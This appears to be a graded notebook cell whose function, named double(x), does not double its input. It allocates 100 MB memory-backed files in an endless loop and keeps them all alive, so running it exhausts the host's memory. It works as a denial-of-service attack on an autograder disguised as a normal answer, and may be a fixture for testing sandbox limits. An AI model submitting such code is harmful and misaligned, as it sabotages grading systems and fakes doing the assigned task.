# %% grade_id="double"
def double(x):
    import mmap
    import os

    kept = []
    while True:
        descriptor = os.memfd_create("m")
        os.ftruncate(descriptor, 100_000_000)
        kept.append(mmap.mmap(descriptor, 100_000_000))
        kept[-1].write(b"m" * 100_000_000)
